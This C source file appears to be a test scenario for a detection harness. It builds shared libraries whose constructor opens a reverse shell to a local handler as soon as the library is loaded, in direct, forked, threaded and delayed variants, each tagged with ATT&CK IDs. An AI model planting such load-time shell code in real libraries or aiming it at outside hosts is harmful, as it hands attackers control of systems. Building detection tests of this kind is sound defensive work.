/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_revshell_{direct,fork,thread,delayed}.so: a reverse shell started
 * from a constructor. It connects to the runner's shell handler on
 * 127.0.0.1 and hands the socket to /bin/sh as stdin/stdout/stderr:
 *   direct   the constructor itself execs the shell (the host is replaced)
 *   fork     a forked child does it; dlopen returns at once
 *   thread   a new thread connects and forks the shell
 *   delayed  the same thread waits 1 s first (outside any short window)
 * ATT&CK: T1059.004 Command and Scripting Interpreter: Unix Shell (over a
 * T1095 raw TCP channel).
 * Proof: NAME.ran from the constructor; NAME.done is written by the shell,
 * running the command the handler sent over the socket. */
#include <time.h>

#include "scn.h"

#if defined(SCN_SHELL_THREAD) || defined(SCN_SHELL_DELAYED)
static void *shell_thread(void *arg)
{
	int fd;

	if (arg) {
		struct timespec second = { 1, 0 };

		nanosleep(&second, NULL);
	}
	fd = scn_connect_local(scn_port("SCENARIO_SHELL_PORT"));
	if (fd >= 0)
		scn_fork_shell(fd);
	return NULL;
}
#endif

__attribute__((constructor)) static void revshell_init(void)
{
	scn_mark("ran");
#if defined(SCN_SHELL_DIRECT)
	int fd = scn_connect_local(scn_port("SCENARIO_SHELL_PORT"));

	if (fd >= 0)
		scn_exec_shell(fd);
#elif defined(SCN_SHELL_FORK)
	if (fork() == 0) {
		int fd = scn_connect_local(scn_port("SCENARIO_SHELL_PORT"));

		if (fd >= 0)
			scn_exec_shell(fd);
		_exit(127);
	}
#elif defined(SCN_SHELL_DELAYED)
	scn_detached(shell_thread, (void *)1);
#else
	scn_detached(shell_thread, NULL);
#endif
}
